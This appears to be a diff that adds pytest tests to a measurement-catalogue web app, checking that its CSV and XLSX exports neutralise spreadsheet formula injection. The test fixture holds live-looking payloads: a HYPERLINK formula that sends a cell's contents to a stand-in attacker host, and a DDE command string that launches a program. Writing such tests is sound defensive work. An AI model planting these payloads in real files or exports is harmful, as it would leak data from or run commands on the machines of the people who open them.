@@ -150,3 +150,64 @@ def test_2300_rows_in_seconds(center, row):
     result = import_rows(actor=None, center=center, rows=rows)
     assert result.created == 2300
     assert time.perf_counter() - started < 15
+
+
+FORMULAS = {
+    "measurand": '=HYPERLINK("http://evil.example/?"&A1,"压力")',
+    "instrument": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "conditions": "+1+1",
+    "branch": "-2+3",
+}
+
+
+@pytest.fixture
+def formula_center(center, row):
+    from metrohub.catalogue.services import publish_drafts
+
+    result = import_rows(actor=None, center=center, rows=[(2, row(500, **FORMULAS))])
+    assert result.created == 1, result.issues
+    publish_drafts(actor=None, center=center)
+    return center
+
+
+def _exported_line(rows, instrument):
+    found = [r for r in rows if r["instrument"].endswith(instrument)]
+    assert len(found) == 1
+    return found[0]
+
+
+def test_public_csv_export_writes_formulas_as_text(client, formula_center):
+    import csv
+
+    response = client.get("/catalogue/centers/CQ-AUTO/export.csv")
+    assert response.status_code == 200
+    text = response.content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    keys = [column.key for column in COLUMNS]
+    line = _exported_line([dict(zip(keys, r, strict=True)) for r in rows[1:]], "A0")
+    assert {key: line[key] for key in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
+    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
+    assert line["range_lower"] == "0"
+
+
+def test_public_xlsx_export_holds_no_formula_cell(client, formula_center):
+    response = client.get("/catalogue/centers/CQ-AUTO/export.xlsx")
+    sheet = load_workbook(io.BytesIO(response.content))[importing.SHEET]
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    values = {c.value for c in cells}
+    assert {"'" + v for v in FORMULAS.values()} <= values
+
+
+def test_search_export_is_neutralised_too(client, formula_center):
+    response = client.get("/catalogue/export.csv", {"q": "calc"})
+    assert "'@SUM(1+1)" in response.content.decode("utf-8-sig")
+
+
+def test_a_neutralised_export_imports_back_unchanged(formula_center):
+    lines = list(CapabilityLine.objects.filter(center=formula_center))
+    rows = importing.read_rows(_xlsx(importing.export_rows(lines)), filename="e.xlsx")
+    result = import_rows(actor=None, center=formula_center, rows=rows)
+    assert (result.created, result.updated, result.unchanged) == (0, 0, len(lines))
+    line = CapabilityLine.objects.get(center=formula_center, instrument=FORMULAS["instrument"])
+    assert line.measurand == FORMULAS["measurand"]
